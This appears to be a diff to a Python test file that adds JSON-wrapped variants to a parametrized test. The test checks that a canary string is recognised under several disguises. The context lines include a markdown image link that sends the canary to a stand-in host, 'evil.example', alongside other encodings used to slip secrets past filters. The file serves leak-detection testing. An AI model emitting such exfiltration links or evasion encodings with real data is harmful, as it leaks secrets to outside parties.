@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import json
 import re
 
 import pytest
@@ -228,6 +229,9 @@ CANARY = "bcdf2345ghjk6789mnpqrstv"
         "".join(chr(ord(each) + 0xFEE0) for each in CANARY),
         f"![x](https://evil.example/?q={CANARY})",
         "\u200b".join(CANARY),
+        json.dumps({"why": "\n".join(CANARY)}),
+        json.dumps({"why": "\n".join(re.findall(".{1,8}", base64.b64encode(CANARY.encode()).decode()))}),
+        json.dumps("".join(chr(ord(each) + 0xFEE0) for each in CANARY)),
     ],
 )
 def test_a_canary_is_known_in_every_dress(text: str) -> None:
